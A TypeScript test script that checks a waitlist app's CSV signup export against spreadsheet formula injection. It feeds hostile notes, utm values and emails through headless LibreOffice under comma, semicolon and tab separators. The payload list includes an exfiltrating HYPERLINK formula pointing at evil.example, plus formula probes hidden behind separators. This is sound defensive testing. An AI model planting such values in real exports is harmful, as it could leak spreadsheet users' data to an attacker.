// npm run check:csv: no cell of the signups export is a formula in LibreOffice, whichever of
// ',', ';' or tab it is told to split on. Hostile signups (notes and utm_* values) go into a
// temporary SQLite store, the export is written by the function the CLI and the console use, and
// LibreOffice headless (Debian's libreoffice-calc-nogui) converts it to .fods, where a formula
// cell carries `table:formula=`. A control file of bare formulas must turn into formulas with the
// same options, so a LibreOffice that stopped evaluating them cannot pass the check by accident.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { boundSource } from '../shared/sources';
import { checkEmail } from '../shared/validation';
import { openSqliteStore } from '../server/store';
import { exportSignups } from '../server/waitlist/listing';

/** What a signup's note may hold: formulas at the start and behind every separator. */
const HOSTILE_DESCRIPTIONS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("https://evil.example/?"&A1,"ok")',
  'note;=1+1',
  'note,=1+1',
  'note\t=1+1',
  '\t=1+1',
  '\r=1+1',
  'note\n=1+1',
  'note\r\n=1+1',
  'note;;=1+1',
  'note;\t=1+1',
  'a;b,c\td\n-1+1',
  'note;"=1+1"',
  'note";=1+1',
  '"=1+1',
  "'=1+1",
  ' =1+1',
  'note; =1+1',
  'note;+1+1;-1+1;@SUM(1)',
];

/** Addresses the signup form accepts that a spreadsheet would read as formulas. */
const HOSTILE_EMAILS = ['=1+1@example.org', '-1+1@example.org', '+1@example.org'];

/** LibreOffice's CSV field separators, by character code. */
const SEPARATORS = { comma: 44, semicolon: 59, tab: 9 };

/**
 * The CSV import filter: the separator, '"' around text, UTF-8, from line 1, standard columns,
 * no "quoted field as text", special numbers detected, and (token 13) formulas evaluated.
 */
const importFilter = (separator: number) =>
  `CSV:${separator},34,76,1,,0,false,true,false,false,false,-1,true`;

async function writeExport(file: string): Promise<number> {
  const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'check-csv-store-'));
  const store = openSqliteStore({ dataDir });
  try {
    const emails = HOSTILE_EMAILS.filter((email) => checkEmail(email) === undefined);
    const rows = [
      // A link's utm_* are anybody's text too, as the signup operation keeps them.
      ...HOSTILE_DESCRIPTIONS.map((description, i) => ({
        email: `n${i}@example.org`,
        description,
        source: boundSource({
          utm_source: description,
          utm_medium: description,
          utm_campaign: description,
        }),
      })),
      ...emails.map((email) => ({ email, description: 'plain' })),
    ];
    for (const row of rows) await store.signups.add(row);
    let csv = '';
    for await (const chunk of exportSignups({ store })) csv += chunk;
    fs.writeFileSync(file, csv);
    return rows.length;
  } finally {
    await store.close();
    fs.rmSync(dataDir, { recursive: true, force: true });
  }
}

/** Converts the files to .fods in `outDir`, splitting on `separator`. */
function convert(files: string[], separator: number, outDir: string, profile: string): void {
  execFileSync(
    'soffice',
    [
      // A profile of its own: no clash with a LibreOffice the user has open.
      `-env:UserInstallation=${pathToFileURL(profile).href}`,
      '--headless',
      `--infilter=${importFilter(separator)}`,
      '--convert-to',
      'fods',
      '--outdir',
      outDir,
      ...files,
    ],
    // Its stderr only when it fails: it warns about Java on every start.
    { stdio: 'pipe', timeout: 120_000 },
  );
}

/** The formulas of a .fods file, as LibreOffice wrote them. */
function formulasIn(fods: string): string[] {
  return [...fods.matchAll(/<table:table-cell\b[^>]*\btable:formula="([^"]*)"/g)].map(
    ([, formula]) => formula,
  );
}

async function main(): Promise<number> {
  if (!commandExists('soffice')) {
    console.error('check:csv needs LibreOffice: apt-get install -y libreoffice-calc-nogui');
    return 2;
  }
  const work = fs.mkdtempSync(path.join(os.tmpdir(), 'check-csv-'));
  const started = process.hrtime.bigint();
  let failures = 0;
  try {
    const rows = await writeExport(path.join(work, 'export.csv'));
    fs.writeFileSync(path.join(work, 'control.csv'), '=1+1\r\n=2+2\r\n');
    for (const [name, code] of Object.entries(SEPARATORS)) {
      const dir = path.join(work, name);
      fs.mkdirSync(dir);
      const files = ['export.csv', 'control.csv'].map((file) => {
        fs.copyFileSync(path.join(work, file), path.join(dir, file));
        return path.join(dir, file);
      });
      convert(files, code, dir, path.join(work, 'profile'));
      const exported = fs.readFileSync(path.join(dir, 'export.fods'), 'utf8');
      const control = formulasIn(fs.readFileSync(path.join(dir, 'control.fods'), 'utf8'));
      const found = formulasIn(exported);
      const read = (exported.match(/<table:table-row\b/g) ?? []).length;
      if (control.length !== 2) {
        console.error(`${name}: the control file gave ${control.length} formulas, not 2`);
        failures += 1;
      } else if (read < rows + 1) {
        console.error(`${name}: LibreOffice read ${read} rows of ${rows + 1}`);
        failures += 1;
      } else if (found.length > 0) {
        const some = found.slice(0, 5).map((formula) => formula.slice(0, 40));
        console.error(`${name}: ${found.length} cells hold a formula, such as ${some.join('  ')}`);
        failures += 1;
      } else {
        console.log(`${name}: no formula in ${rows} hostile rows`);
      }
    }
  } finally {
    fs.rmSync(work, { recursive: true, force: true });
  }
  const seconds = Number(process.hrtime.bigint() - started) / 1e9;
  console.log(`check:csv ${failures ? 'FAILED' : 'passed'} in ${seconds.toFixed(1)} s`);
  return failures ? 1 : 0;
}

function commandExists(command: string): boolean {
  try {
    execFileSync('sh', ['-c', `command -v ${command}`], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

main().then(
  (status) => process.exit(status),
  (err: unknown) => {
    console.error(err);
    process.exit(1);
  },
);
